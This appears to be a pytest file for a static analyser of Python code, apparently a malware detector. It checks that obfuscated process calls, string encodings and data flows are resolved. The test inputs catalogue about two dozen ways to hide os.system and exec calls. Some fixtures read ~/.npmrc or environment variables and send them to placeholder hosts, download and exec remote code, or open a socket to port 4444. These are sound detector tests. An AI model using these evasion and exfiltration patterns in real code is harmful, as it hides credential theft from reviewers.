"""What the evaluator folds, and the ways to a name that it knows."""

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lazaretto.core.facts import Kind
from tests.languages.python_reading import flows, only, read, read_any, values

WAYS = {
    "getattr": 'import os as o\ngetattr(o, "sys" + "tem")("X")',
    "reversed-import": '__import__("so"[::-1]).system("X")',
    "globals": 'import os\nglobals()["os"].system("X")',
    "dict": 'import os\nos.__dict__["system"]("X")',
    "vars": 'import os\nvars(os)["sys" "tem"]("X")',
    "modules": 'import sys\nsys.modules["os"].system("X")',
    "import-module": 'import importlib\nimportlib.import_module("".join(map(chr, [111, 115]))).system("X")',
    "builtins": '__builtins__.__dict__["ev" + "al"]("__import__(\'os\').system(\'X\')")',
    "lambda": 'import os\n(lambda f: f("X"))(os.popen)',
    "map": 'import os\nlist(map(os.system, ["X"]))',
    "container": 'import os\ntable = {"k": os.system}\ntable["k"]("X")',
    "class-attribute": 'import os\nclass A:\n    run = os.system\nA.run("X")',
    "attrgetter": 'import operator, os\noperator.attrgetter("system")(os)("X")',
    "partial": 'import functools, os\nfunctools.partial(os.system, "X")()',
    "alternative": 'try:\n    from posix import system as run\nexcept ImportError:\n    run = None\nrun("X")',
    "conditional": 'import os, time\n(os.system if time.time() else print)("X")',
    "getattribute": 'import os\nos.__getattribute__("system")("X")',
    "native": 'import ctypes\nctypes.CDLL(None).system(b"X")',
    "comprehension": 'import os\n[os.system(c) for c in ("X",)]',
    "python-2": 'import commands\ncommands.getoutput("X")',
    "math-letters": 'import os\nos.\U0001d600\U0001d606\U0001d600\U0001d601\U0001d5f2\U0001d5fa("X")',
    "method": 'import os\nclass A:\n    def __init__(s): s.f = os.system\n    go = lambda s: s.f("X")\nA().go()',
    "asyncio": 'import asyncio\nasync def main():\n    await asyncio.create_subprocess_shell("X")\nasyncio.run(main())',
    "star": 'from os import *\nsystem("X")',
}


@pytest.mark.parametrize("way", WAYS)
def test_ways_to_a_name(way: str) -> None:
    """However a function is found, calling it is the same fact."""
    assert values(read(WAYS[way]), Kind.PROCESS_SPAWN) == ["X"]


UNCALLED = {
    "import": "import subprocess\ndef f():\n    subprocess.run('X')",
    "in-function": "def f():\n    import subprocess as s\n    s.run('X')",
    "from": "from . import compat, subprocess\nfrom subprocess import run as go\ndef f():\n    go('X')",
    "modules": "import sys\ndef f():\n    sys.modules['subprocess'].run('X')",
    "attribute": "import asyncio\ndef f():\n    asyncio.subprocess.create_subprocess_shell('X')",
    "later": "import importlib\ndef g():\n    global p\n    p = importlib.import_module('subprocess')\n"
    "def f():\n    p.run('X')",
    "class-member": "import subprocess\nclass A:\n    p = subprocess\n    def f(self):\n        self.p.run('X')",
    "member": "import subprocess\nclass A:\n    def __init__(self):\n        self.p = subprocess\n"
    "    def f(self):\n        self.p.run('X')",
}


@pytest.mark.parametrize("way", UNCALLED)
def test_functions_that_nobody_calls(way: str) -> None:
    """A function is followed if its body names something of interest, however that name was bound."""
    assert values(read(UNCALLED[way] + "\n"), Kind.PROCESS_SPAWN) == ["X"]


KEY = b"key"
SECRET = b"exec-me-not-0123"
MIXED = bytes(byte ^ KEY[at % 3] for at, byte in enumerate(SECRET))
FOLDS = {
    "percent": "'exec%sme-not-%s' % ('-', '0123')",
    "format": "'{}-me-{x}-0123'.format('exec', x='not')",
    "f-string": "f\"{'exec'}-me-not-{'0123'}\"",
    "join": "'-'.join(['exec', 'me', 'not', '0123'])",
    "slices": "'3210-ton-em-cexe'.replace('cexe', 'cexe')[::-1]",
    "hex": f"bytes.fromhex('{SECRET.hex()}').decode()",
    "base64": f"__import__('base64').b64decode('{base64.b64encode(SECRET).decode()}').decode()",
    "base85": f"__import__('base64').b85decode({base64.b85encode(SECRET)!r}).decode()",
    "codecs": "__import__('codecs').decode('rkrp-zr-abg-0123', 'rot13')",
    "char-codes": f"''.join(chr(c) for c in {list(SECRET)})",
    "bytes-of-list": f"bytes({list(SECRET)}).decode()",
    "xor": f"bytes(b ^ {list(KEY)}[i % 3] for i, b in enumerate({MIXED!r})).decode()",
    "xor-cycle": f"bytes(a ^ b for a, b in zip({MIXED!r}, __import__('itertools').cycle({KEY!r}))).decode()",
    "reduce": "__import__('functools').reduce(lambda a, b: a + b, ['exec-me', '-not', '-0123'])",
    "escapes": "'\\x65xec-me-n\\u006ft-\\N{DIGIT ZERO}123'",
    "ternary": "'exec-me-not-0123' if 1 < 2 else 'no'",
    "translate": "'fyfd.nf.opu.1234'.translate({ord(a): ord(a) - 1 for a in 'fydn.opu1234'})",
    "unicode-escape": "r'\\x65xec-me-not-0123'.encode().decode('unicode_escape')",
    "ebcdic": f"{SECRET.decode().encode('cp037')!r}.decode('cp037')",
    "utf-16 of other letters": f"'{SECRET.decode('utf-16-le')}'.encode('utf-16-le').decode()",
    "shift-jis": f"{SECRET!r}.decode('shift_jis')",
    "int-bytes": f"int.to_bytes({int.from_bytes(SECRET, 'big')}, {len(SECRET)}, 'big').decode()",
}


@pytest.mark.parametrize("fold", [name for name in FOLDS if name != "int-bytes"])
def test_folds(fold: str) -> None:
    """Strings are followed, not searched for: each way to build one gives the value that the program would have."""
    assert only(read(f"import os\nos.system({FOLDS[fold]})\n"), Kind.PROCESS_SPAWN).value == "exec-me-not-0123"


@pytest.mark.parametrize(
    ("text", "hides"),
    [
        (FOLDS["ebcdic"], True),
        (FOLDS["utf-16 of other letters"], True),
        (FOLDS["shift-jis"], False),
        (f"{SECRET!r}.decode()", False),
        (f"{SECRET.decode().encode('utf-16')!r}.decode('utf-16')", False),
        (f"{SECRET.decode().encode('utf-16-le')!r}.decode('utf-16-le')", False),
        ("'exec-me'.encode('utf-16').decode('utf-16')", False),
        ("'naïve'.encode('utf-16').decode('utf-16')", False),
        ("'naïve'.encode('ascii', 'replace').decode()", False),
        ("b'caf\\xe9'.decode('latin-1')", False),
    ],
)
def test_a_character_set_may_hide(text: str, hides: bool) -> None:
    """Where other letters stand for those that are meant, the value was hidden; a reader sees through all others."""
    assert ("charset" in only(read(f"exec({text})\n"), Kind.CODE_EVAL).via) is hides


def test_a_decoder_of_ones_own() -> None:
    """A small pure function with loops is computed on constants, and names what it did."""
    facts = read(
        f"DATA = {list(MIXED)}\n"
        "def reveal(data, key):\n"
        "    out = ''\n"
        "    for i in range(len(data)):\n"
        "        out += chr(data[i] ^ ord(key[i % len(key)]))\n"
        "    return out\n"
        "import os\n"
        "os.system(reveal(DATA, 'key'))\n"
    )

    spawn = only(facts, Kind.PROCESS_SPAWN)
    assert spawn.value == "exec-me-not-0123"
    assert "xor" in spawn.via


def test_parts_that_are_unknown_are_holes() -> None:
    """What is known of a text is told even if a part of it is not."""
    facts = read("import requests\ndef send(name):\n    requests.get(f'https://host.invalid/{name}/x')\n")

    assert values(facts, Kind.NET_CONNECT) == ["https://host.invalid/{}/x"]


def test_what_was_deleted_is_gone() -> None:
    """Parts that are taken out of a list or a dictionary are no longer in it."""
    facts = read(
        "import os\na = ['x', 'no', 'y', 'no', 'no']\ndel a[1], a[2:]\nos.system(' '.join(a))\n"
        "b = {'k': 'z', 'l': os.name}\ndel b['l']\nos.system(''.join(b))\n"
    )

    assert values(facts, Kind.PROCESS_SPAWN) == ["x y", "k"]


def test_a_loop_that_deletes_what_nobody_knows_is_read_once() -> None:
    """Whether anything is left is not known then: such a loop uses up no steps that others need."""
    work = "d = {'a': 1}\nwhile d:\n    del d[input()]\n"
    facts = read(work * 9 + "x = ''\nfor c in range(9_000):\n    x = chr(c ^ 7)\nexec(x)\n")

    assert values(facts, Kind.CODE_EVAL) == [chr(8999 ^ 7)]


def test_branches_join() -> None:
    """Where two branches meet, both values are told."""
    facts = read("import os, sys\nif sys.argv:\n    c = 'one'\nelse:\n    c = 'two'\nos.system(c)\n")

    assert values(facts, Kind.PROCESS_SPAWN) == ["one", "two"]


BESIDE = """import subprocess

def measured(profiler, path):
    name = open(f'{path}/counts.dat').read().strip()
    command = []
    if profiler == 'sampling':
        command = ['perf', 'record', '--quiet']
    elif profiler:
        command = ['valgrind', f'--toggle-collect={name}']
    command += ['pad']
    subprocess.run(%s)
"""


def test_words_behind_one_of_several_commands() -> None:
    """Each way keeps its own words, and what is read from a file for one of them is no command that lay in the file."""
    facts = read(BESIDE % "command")

    assert values(facts, Kind.PROCESS_SPAWN) == ["perf record --quiet pad", "valgrind --toggle-collect={} pad"]
    assert values(facts, Kind.DECODE) == []
    assert values(read(BESIDE % "name.split() + command"), Kind.DECODE) == [None]
    assert values(read(BESIDE % "list(name) + command"), Kind.DECODE) == [None]


def test_code_that_seems_dead_is_read() -> None:
    """A judgement that code cannot run may be wrong: its facts are told all the same."""
    facts = read("import os\nif False:\n    os.system('dead')\ndef f():\n    return 1\n    os.system('behind')\nf()\n")

    assert values(facts, Kind.PROCESS_SPAWN) == ["dead", "behind"]


def test_what_stands_behind_an_end_is_read_in_every_function() -> None:
    """However many there are: what was read of one that is gone is not taken for another."""
    function = "def f{0}(u):\n    if u:\n        return 1\n    raise ValueError\n    os.system('behind {0}')\n"
    facts = read("import os\n" + "".join(function.format(number) for number in range(60)))

    assert values(facts, Kind.PROCESS_SPAWN) == [f"behind {number}" for number in range(60)]


def test_eval_gives_a_value() -> None:
    """The text of an ``eval`` is an expression whose value goes on."""
    assert values(read("eval('__import__(\"o\" + \"s\")').system('X')"), Kind.PROCESS_SPAWN) == ["X"]


def test_flow_through_functions_and_encodings() -> None:
    """A secret is followed through returns, containers and encodings into the request that carries it away."""
    facts = read(
        "import base64, json, os, urllib.request\n"
        "def collect():\n"
        "    return {'k': open(os.path.expanduser('~/.npmrc')).read()}\n"
        "def wrap(value):\n"
        "    return base64.b64encode(json.dumps(value).encode())\n"
        "def main():\n"
        "    request = urllib.request.Request('https://host.invalid/', data=wrap(collect()))\n"
        "    urllib.request.urlopen(request)\n"
    )

    assert (Kind.SECRET_READ, Kind.NET_CONNECT) in flows(facts)
    assert values(facts, Kind.SECRET_READ) == ["~/.npmrc"]


def test_flow_from_download_to_evaluation() -> None:
    """What the network gives and ``exec`` takes is one flow."""
    facts = read("import requests\nexec(requests.get('https://host.invalid/x.py').text)\n")

    assert flows(facts) == {(Kind.NET_CONNECT, Kind.CODE_EVAL)}


def test_flow_into_a_socket() -> None:
    """A connected socket is a sink for what is sent later."""
    facts = read(
        "import os, socket\n"
        "s = socket.socket()\n"
        "s.connect(('192.0.2.7', 4444))\n"
        "s.sendall(str(dict(os.environ)).encode())\n"
    )

    assert values(facts, Kind.NET_CONNECT) == ["192.0.2.7:4444"]
    assert (Kind.ENV_DUMP, Kind.NET_CONNECT) in flows(facts)


def test_scope_flow_is_weaker() -> None:
    """A secret and a request in one function, with nothing between them, are a flow of scope only."""
    facts = read(
        "import os, requests\ndef f():\n    token = os.environ['NPM_TOKEN']\n    requests.get('https://host.invalid')\n"
    )

    assert flows(facts) == set()
    assert flows(facts, "scope") == {(Kind.SECRET_READ, Kind.NET_CONNECT)}


@given(st.text(max_size=40), st.binary(min_size=1, max_size=5))
def test_xor_gives_back_any_text(text: str, key: bytes) -> None:
    """Law: what was hidden by xor with a known key is the text that the evaluator tells."""
    mixed = bytes(byte ^ key[at % len(key)] for at, byte in enumerate(f"a{text}".encode()))
    source = f"import os\nk = {key!r}\nos.system(bytes(c ^ k[i % len(k)] for i, c in enumerate({mixed!r})).decode())\n"

    assert only(read_any(source), Kind.PROCESS_SPAWN).value == f"a{text}"


def test_an_import_of_nothing_is_no_code_that_is_not_understood() -> None:
    """A name that comes out empty in a branch that is never taken leaves half a statement, which no Python runs."""
    facts = read("package = 'tab'[:0]\nexec('import %s' % package)\n")
    assert values(facts, Kind.CODE_EVAL) == ["import "]
    assert read_any("exec('import 1')\n").problems
